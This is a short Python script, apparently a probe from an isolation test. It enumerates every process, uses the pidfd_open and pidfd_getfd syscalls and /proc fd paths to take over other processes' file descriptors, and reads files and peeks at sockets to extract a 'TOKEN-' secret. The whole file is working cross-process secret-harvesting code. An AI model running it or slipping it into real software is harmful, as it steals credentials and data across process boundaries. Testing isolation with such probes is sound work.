# SPDX-License-Identifier: Apache-2.0
"""Reads every descriptor of every process: its own, by /proc, and by pidfd_getfd."""
import ctypes
import os
import re
import socket

libc = ctypes.CDLL(None)

def find(data):
    """A token in bytes, as text."""
    m = re.search(b"TOKEN" + b"-[0-9a-f]{32}", data)
    return m and m.group().decode()


def contents(fd):
    for get in (lambda: os.pread(fd, 1 << 24, 0), lambda: socket.socket(fileno=os.dup(fd)).recv(1 << 20, socket.MSG_PEEK | socket.MSG_DONTWAIT)):
        try:
            yield get()
        except (OSError, ValueError):
            pass


def f(_):
    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        pidfd = libc.syscall(434, pid, 0)
        for n in range(64):
            got = [libc.syscall(438, pidfd, n, 0)]
            try:
                got.append(os.open("/proc/%d/fd/%d" % (pid, n), os.O_RDONLY | os.O_NONBLOCK))
            except OSError:
                pass
            for fd in got + ([n] if pid == os.getpid() else []):
                for data in contents(fd) if fd >= 0 else ():
                    if find(data):
                        return find(data)
    return None
